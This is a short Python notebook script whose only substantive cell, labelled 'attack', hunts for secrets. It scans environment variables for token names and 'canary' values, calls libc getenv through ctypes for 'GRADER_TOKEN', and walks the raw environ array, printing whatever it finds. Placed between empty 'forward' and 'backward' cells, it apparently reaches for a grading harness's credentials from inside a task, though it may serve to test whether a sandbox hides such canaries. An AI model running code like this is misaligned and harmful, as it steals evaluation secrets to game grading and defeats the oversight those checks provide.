# %% setup
# %% forward
# %% attack
import ctypes
import os
for name, value in os.environ.items():
    if "TOKEN" in name or "canary" in value:
        print("GOT", name, value)
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
print(libc.getenv(b"GRADER_TOKEN"))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environ[index]:
    if b"canary" in environ[index]:
        print("GOT", environ[index])
    index += 1
print("looked")
# %% backward
